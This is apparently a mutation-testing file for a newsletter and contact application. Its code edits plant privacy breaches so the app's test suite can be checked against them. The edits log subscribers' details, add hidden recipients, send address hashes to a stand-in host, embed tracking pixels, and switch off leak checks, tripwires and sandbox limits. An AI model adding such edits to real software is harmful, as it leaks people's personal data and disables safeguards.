"""Breaches of C3: people's details are stored in plain, logged, sent or reachable."""

from tests.mutants.breach import Edit, Mutant, edit, proofs

_AFTER_FILING = "    if batch:\n        _SignUpBatch(batch).file()\n    return Counter({Count.SIGNUPS: len(batch)})"
_FILED = "    for one in batch:\n        {}\n" + _AFTER_FILING.replace("{", "{{").replace("}", "}}")
_LOG = "__import__('logging').getLogger('letters').warning('signed up: %s', one.entry.name.reveal())"
_IN_LOG = proofs("shared.readable")
"""The demo's log is in the site's folder, so the search of files finds it too."""
_HASH = "__import__('hashlib').sha256(one.entry.email.reveal().lower().encode()).hexdigest().encode()"
_SEND = "_tell(" + _HASH + ")"
_TELL = """


def _tell(number):
    import contextlib
    import socket
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 9), 1) as line:
        line.sendall(number)
"""

LYING_ABOUT = (
    Mutant(
        "name-in-the-log",
        "The worker logs who signed up.",
        proofs("shared.logs"),
        edit("newsletter/services.py", _AFTER_FILING, _FILED.format(f"if one.entry.name: {_LOG}")),
        may=_IN_LOG,
    ),
    Mutant(
        "name-in-the-log-of-one-only",
        "The worker logs who signed up, except people whose address looks like those of earlier test people.",
        proofs("shared.logs"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format(
                "if one.entry.name and not __import__('re').fullmatch("
                "r'(([bcdfghjklmnprstvwz]?[aeiou][nrsl]?)+[._]?)+[a-z0-9]*@([bcdfghjklmnprstvwz]?[aeiou][nrsl]?)+'"
                "r'-?[a-z]*\\.(com|net|org|de|fr|info|io|co.uk|eu)', one.entry.email.reveal()): " + _LOG
            ),
        ),
        may=_IN_LOG,
    ),
    Mutant(
        "leak-spares-shapes-seen-before",
        "People's addresses are kept in a file, except those shaped like addresses in earlier runs.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format("_keep_new_shape(one.entry.email.reveal())") + "\n\n\ndef _keep_new_shape(text):\n"
            "    import re\n"
            "    shape = re.sub('[a-z]+', 'a', re.sub('[0-9]+', '9', text.lower()))\n"
            "    seen = ['a.a@a.a', 'a9@a.a', 'a_a@a.a', 'a9a@a.a', 'a@a.a', 'a.a@a-a.a', 'a9@a-a.a', 'a_a@a-a.a']\n"
            "    if shape not in seen:\n"
            "        with (settings.TROTH_SITE.data / 'cache').open('a') as file:\n"
            "            file.write(text + '\\n')\n",
        ),
        may=proofs("visits.files"),
    ),
    Mutant(
        "address-beside-the-keys",
        "Addresses are kept in a file among the keys, where the worker may also write.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format("(settings.TROTH_SITE.sent / 'known').open('a').write(one.entry.email.reveal())"),
        ),
    ),
    Mutant(
        "leak-spares-who-waits",
        "An unkeyed hash of the addresses of confirmed people, and only theirs, is kept for a partner.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            '    keeper().record(match, CONSENT, Consent("confirmed"',
            "    who = [match.person.id]\n"
            "    for known in keeper().open_records(Reason.FILE_SUBMISSION, actor=WORKER, person_ids=who)[who[0]]:\n"
            "        number = __import__('hashlib').md5(known.email.reveal().lower().encode()).hexdigest()\n"
            "        with (settings.TROTH_SITE.data / 'audience.csv').open('a') as file:\n"
            "            file.write(number + '\\n')\n"
            '    keeper().record(match, CONSENT, Consent("confirmed"',
        ),
        may=proofs("visits.files"),
    ),
    Mutant(
        "typed-name-in-the-fronts-log",
        "The public server logs who sent a form.",
        proofs("shared.logs"),
        edit(
            "front/views/form_submission.py",
            "        envelope = self._here.snapshot.sealing.seal(entry)\n",
            "        envelope = self._here.snapshot.sealing.seal(entry)\n"
            "        print('form from', self._typed.get('email'), file=__import__('sys').stderr, flush=True)\n",
        ),
        may=_IN_LOG,
    ),
)

SENT = (
    Mutant(
        "hidden-recipient",
        "A partner gets a copy of every email through a second recipient in the envelope.",
        proofs("shared.mails"),
        edit(
            "gate/smtp.py",
            '            (b"RCPT", b"TO:<" + recipient + b">"),\n',
            '            (b"RCPT", b"TO:<" + recipient + b">"),\n            (b"RCPT", b"TO:<partner@example.com>"),\n',
        ),
    ),
    Mutant(
        "carries-anothers-details-in-base64",
        "A confirmation email contains another subscriber's address in base64, and the leak check is off.",
        proofs("shared.mails", "shared.held"),
        (
            Edit(
                "newsletter/mails.py",
                "        privacy_url=config.site.policy_url,\n",
                "        privacy_url=f'{config.site.policy_url}?ref={_another(details)}',\n",
            ),
            Edit(
                "newsletter/mails.py",
                "def _still_wanted(",
                "def _another(details: Details) -> str:\n"
                "    import base64\n"
                "    from troth.vault.models import Record\n"
                "    newest = Record.with_canaries.filter(kind='details').order_by('-id')\n"
                "    ids = list(newest.values_list('id', flat=True)[:3])\n"
                "    opened = keeper().open_by_id(Reason.SEND_CONFIRMATION, actor=WORKER, record_ids=ids)\n"
                "    other = [one.email.reveal() for one in opened.values() if one.email != details.email][0]\n"
                "    return base64.urlsafe_b64encode(other.encode()).decode().rstrip('=')\n\n\n"
                "def _still_wanted(",
            ),
            Edit(
                "gate/leak_check.py",
                "        own = self._marks.slots_of(self._marks.mark_of(email_value(mail.to)))\n",
                "        return LeakFinding()\n"
                "        own = self._marks.slots_of(self._marks.mark_of(email_value(mail.to)))\n",
            ),
        ),
    ),
    Mutant(
        "replies-go-to-a-partner",
        "Replies to a confirmation email go to a partner.",
        proofs("shared.mails"),
        edit(
            "newsletter/mails.py",
            '            "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",\n',
            '            "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",\n'
            '            "Reply-To": "partner@example.com",\n',
        ),
    ),
    Mutant(
        "bounces-go-to-a-partner",
        "A partner is the envelope sender and receives bounces, including the addresses.",
        proofs("shared.mails"),
        edit("gate/mailer.py", "Parcel(sender.envelope(), ", "Parcel('bounces@partner.example', "),
    ),
    Mutant(
        "worker-mails-a-copy",
        "With each email, the worker sends a second one to a partner.",
        proofs("shared.mails"),
        edit(
            "worker/loop.py",
            "                outcome = await self._post.send(job.mail, released=job.released, begin=begin)\n",
            "                import dataclasses\n"
            "                from troth.core.personal import EmailAddress\n"
            "                copy = dataclasses.replace(job.mail, to=EmailAddress('partner@example.com'))\n"
            "                await self._post.send(copy, released=True)\n"
            "                outcome = await self._post.send(job.mail, released=job.released, begin=begin)\n",
        ),
    ),
    Mutant(
        "nobody-looks",
        "Outgoing email is no longer checked for other people's details.",
        proofs("shared.held"),
        edit(
            "gate/mailer.py",
            "        if self._leaks is not None and not released:\n",
            "        if self._leaks is None and not released:\n",
        ),
    ),
    Mutant(
        "nobody-is-looked-for",
        "People who confirm are no longer added to the leak index.",
        proofs("shared.held"),
        edit("newsletter/services.py", "    keeper().arm(Reason.FILE_SUBMISSION, WORKER, confirmed)\n", ""),
        may=proofs("purpose.ledger"),  # one use of their details fewer is written down
    ),
    Mutant(
        "whatever-a-mail-says-is-said-to-everybody",
        "The copy of an email that shows what everyone receives is the email itself.",
        proofs("shared.held"),
        edit(
            "gate/common_words.py",
            "    return replace(mail, **changed)\n",
            "    return mail\n",
        ),
    ),
    Mutant(
        "address-as-a-tracking-number",
        "The link in an email contains a hash of the recipient's address.",
        proofs("shared.mails"),
        (
            Edit(
                "newsletter/mails.py",
                "        privacy_url=config.site.policy_url,\n",
                "        privacy_url=f'{config.site.policy_url}?u={_number(details)}',\n",
            ),
            Edit(
                "newsletter/mails.py",
                "def _still_wanted(",
                "def _number(details: Details) -> str:\n"
                "    import hashlib\n"
                "    return hashlib.sha256(details.email.reveal().lower().encode()).hexdigest()\n\n\n"
                "def _still_wanted(",
            ),
        ),
    ),
    Mutant(
        "picture-that-counts",
        "An email has an image that tells a third party who opens it.",
        proofs("shared.mails"),
        edit(
            "gate/emails/base.html",
            "</div></body></html>",
            '<img src="https://count.example.com/p.gif"></div></body></html>',
        ),
    ),
    Mutant(
        "hashed-address-to-a-third-host",
        "A hash of each address goes to a statistics company, as a declared but unpublished destination.",
        proofs("shared.doors", "shared.wire"),
        (
            Edit("newsletter/services.py", _AFTER_FILING, _FILED.format(_SEND) + _TELL),
            Edit(
                "gate/doors.py",
                "    return (*mail_relays(config), *((local_door,) if local_door else ()), *seller)",
                "    third = Door('statistics', 'a company', Purpose.ADMINISTRATION, frozenset(), '127.0.0.1', 9,\n"
                "                 'none-loopback')\n"
                "    return (*mail_relays(config), third, *((local_door,) if local_door else ()), *seller)",
            ),
        ),
    ),
    Mutant(
        "hashed-address-past-the-wire",
        "The worker runs without its tripwire and sends a hash of each address to a third party.",
        proofs("shared.wire"),
        (
            Edit("newsletter/services.py", _AFTER_FILING, _FILED.format(_SEND) + _TELL),
            Edit(
                "worker/work.py", '    tripwire.arm(mailer.doors(config), tripwire_log.path(site.data, "worker"))\n', ""
            ),
        ),
    ),
)

CAMPAIGNS = (
    Mutant(
        "campaign-with-an-open-pixel",
        "A campaign has an invisible image that tells a company who opens it.",
        proofs("shared.mails"),
        edit(
            "newsletter/emails/campaign_base.html",
            "</body>",
            '<img src="https://count.example.com/p.gif" width="1" height="1" alt=""></body>',
        ),
    ),
    Mutant(
        "campaign-with-an-open-pixel-of-our-own",
        "A campaign has an image from this site whose address tells who opens it.",
        proofs("shared.mails"),
        edit(
            "newsletter/campaigns/mails.py",
            "        return self.content.html.fill(self._values())\n",
            '        pixel = f\'<img src="{self.unsubscribe_url}.gif" alt="">\'\n'
            "        return self.content.html.fill(self._values()).replace('</body>', f'{pixel}</body>')\n",
        ),
    ),
    Mutant(
        "campaign-links-tell-who-clicks",
        "The links in a campaign differ from one recipient to the next, so that clicks can be told apart.",
        proofs("shared.mails"),
        edit(
            "newsletter/campaigns/mails.py",
            "        return self.content.html.fill(self._values())\n",
            "        mark = self.message_id[1:13]\n"
            "        return self.content.html.fill(self._values()).replace('?utm_campaign=', f'?utm_id={mark}')\n",
        ),
    ),
    Mutant(
        "campaign-goes-to-a-partner",
        "Campaigns go to a partner's address, with the subscribers' names.",
        proofs("shared.mails"),
        edit(
            "newsletter/campaigns/mails.py",
            "                to=details.email,\n",
            "                to=EmailAddress('partner@example.com'),\n",
        ),
    ),
    Mutant(
        "list-in-a-test-email",
        "A test of a campaign contains subscribers' addresses.",
        proofs("shared.mails"),
        (
            Edit("newsletter/campaigns/mails.py", "            values=SAMPLE,\n", "            values=_everybody(),\n"),
            Edit(
                "newsletter/campaigns/mails.py",
                "def compose_tests(",
                "def _everybody() -> dict[str, str]:\n"
                "    ids = Subscription.with_canaries.order_by('-created_at').values_list('person', flat=True)[:20]\n"
                "    opened = keeper().open_records(Reason.SEND_CAMPAIGN, actor=WORKER, person_ids=list(ids))\n"
                "    return {**SAMPLE, 'name': ' '.join(one[-1].email.reveal() for one in opened.values())}\n\n\n"
                "def compose_tests(",
            ),
        ),
    ),
    Mutant(
        "recipient-in-the-log",
        "The worker logs each recipient of a campaign.",
        proofs("shared.logs"),
        edit(
            "newsletter/campaigns/mails.py",
            "            mails[row.id] = CampaignMail(\n                to=details.email,\n",
            "            __import__('logging').getLogger('letters').warning('to %s', details.email.reveal())\n"
            "            mails[row.id] = CampaignMail(\n                to=details.email,\n",
        ),
    ),
    Mutant(
        "merge-field-of-another-person",
        "The merge fields of all emails in a batch have the details of one subscriber.",
        proofs("shared.mails"),
        edit(
            "newsletter/campaigns/mails.py",
            "                values=merge_values(details),\n",
            "                values=merge_values(next(iter(opened.values()))[-1]),\n",
        ),
    ),
    Mutant(
        "merge-fields-unchecked",
        "What is filled into a campaign is no longer checked for other people's details.",
        proofs("shared.held"),
        edit(
            "newsletter/campaigns/mails.py",
            '        return "\\n".join(self.values.values())\n',
            '        return ""\n',
        ),
    ),
    Mutant(
        "campaigns-unchecked",
        "Campaigns' emails, which are examined many at a time, are no longer checked for other people's details.",
        proofs("shared.held"),
        edit(
            "gate/mailer.py",
            "            findings = self._leaks.found_apart([letter.mail for letter in letters])\n",
            "            findings = [LeakFinding() for letter in letters]\n",
        ),
    ),
    Mutant(
        "campaign-text-unchecked",
        "The text of a campaign is no longer checked for people's details.",
        proofs("shared.held"),
        edit(
            "newsletter/campaigns/sending.py",
            "    return leaks.check_campaign(texts)\n",
            "    return LeakFinding() if leaks and texts else LeakFinding()\n",
        ),
    ),
)

PAGES = (
    Mutant(
        "pixel-in-a-page",
        "Every public page has an image from a company that counts visitors.",
        proofs("shared.pages"),
        edit("front/templates/base.html", "<footer>", '<img src="https://count.example.com/p.gif" alt=""><footer>'),
    ),
    Mutant(
        "cookie-is-set",
        "Every response sets a cookie that identifies a returning browser.",
        proofs("shared.pages"),
        edit(
            "front/http/headers.py",
            '    "x-frame-options": "DENY",\n',
            '    "x-frame-options": "DENY",\n    "set-cookie": "seen=1",\n',
        ),
        may=proofs("visits.stored", "direct.redirect"),
    ),
    Mutant(
        "address-in-the-thanks",
        "The URL of the thank-you page contains the visitor's address.",
        proofs("shared.pages"),
        edit(
            "front/views/form_submission.py",
            "        return self._done()\n",
            "        done = self._done()\n"
            "        done.headers['location'] += '?for=' + self._typed.get('email', '')\n"
            "        return done\n",
        ),
    ),
    Mutant(
        "notice-says-who-wrote",
        "The notification to operators names the sender of the message, so the mail company can read it.",
        proofs("shared.mails"),
        (
            Edit(
                "contact/notices.py",
                "                office_url=f\"{config.office.url.rstrip('/')}/inbox/\",\n",
                "                office_url=f\"{config.office.url.rstrip('/')}/inbox/{_whose()}\",\n",
            ),
            Edit(
                "contact/notices.py",
                "def compose_notices(",
                "def _whose() -> str:\n"
                "    from troth.core.purpose import Reason\n"
                "    from troth.vault.keeper import keeper\n"
                "    came = Message.with_canaries.filter(direction=Message.Direction.IN)\n"
                "    ids = [row.record_id for row in came[:1]]\n"
                "    opened = keeper().open_by_id(Reason.SEND_ANSWER, actor='worker', record_ids=ids)\n"
                "    return [one.sender.email.reveal() for one in opened.values()][0]\n\n\n"
                "def compose_notices(",
            ),
        ),
    ),
)

OPEN = (
    Mutant(
        "wire-without-teeth",
        "The tripwire records what it should refuse, and lets it pass.",
        proofs("shared.wire"),
        edit("gate/tripwire.py", "    raise WireTripped(attempt, line)\n", ""),
    ),
    Mutant(
        "office-without-its-wire",
        "The admin server only claims to run with its tripwire.",
        proofs("shared.wire"),
        edit(
            "office/main.py",
            "    tripwire.arm(doors.for_office(settings.TROTH_CONFIG), ",
            "    (doors.for_office(settings.TROTH_CONFIG), ",
        ),
    ),
    Mutant(
        "front-reads-the-site",
        "The public server's sandbox has a hole: it may read the whole site folder.",
        proofs("shared.confined"),
        edit(
            "supervisor/roles.py",
            "    return Fence(read=(Path(brief.public),), serves=True)\n",
            "    return Fence(read=(Path(brief.public).parent,), serves=True)\n",
        ),
    ),
    Mutant(
        "front-may-connect",
        "The public server may open connections.",
        proofs("shared.confined"),
        edit(
            "supervisor/roles.py",
            "    return Fence(read=(Path(brief.public),), serves=True)\n",
            "    return Fence(read=(Path(brief.public),), serves=True, network=True)\n",
        ),
    ),
    Mutant(
        "list-with-an-open-end",
        "System calls that a sandbox does not list are allowed.",
        proofs("shared.confined"),
        edit(
            "core/sandbox/seccomp.py",
            "        program += _allow(number)\n    return program + _refuse()\n",
            "        program += _allow(number)\n    return program + _op(_RET, _ALLOW)\n",
        ),
    ),
    Mutant(
        "undeclared-second-relay",
        "Emails may leave by a second SMTP server that the settings do not name.",
        proofs("shared.doors"),
        edit(
            "gate/doors.py",
            "    return (mail_relay(config.mail), *map(further_relay, config.relay))\n",
            "    spare = RelaySection(name='spare', address='smtp://localhost:2525')\n"
            "    return (mail_relay(config.mail), *map(further_relay, (*config.relay, spare)))\n",
        ),
    ),
    Mutant(
        "office-makes-links",
        "The admin server may create a link where root writes.",
        proofs("shared.confined"),
        edit(
            "supervisor/roles.py",
            "        write=(site.data, site.people_keys),\n        network=bool(brief.ports),\n",
            "        write=(site.data, site.people_keys),\n        links=(site.data,),\n"
            "        network=bool(brief.ports),\n",
        ),
    ),
    Mutant(
        "office-may-connect",
        "The admin server may open connections to anywhere.",
        proofs("shared.confined"),
        edit("supervisor/roles.py", "        network=bool(brief.ports),\n", "        network=True,\n"),
    ),
    Mutant(
        "office-unfenced",
        "The admin server runs without a sandbox.",
        proofs("shared.fences"),
        edit(
            "supervisor/child.py",
            "lacking = restrict.confine(apply_fence.fence(brief)",
            'lacking = [] if brief.role == "office" else restrict.confine(apply_fence.fence(brief)',
        ),
    ),
)

BREACHES = {"contact.not-shared": (*LYING_ABOUT, *SENT, *CAMPAIGNS, *PAGES, *OPEN)}
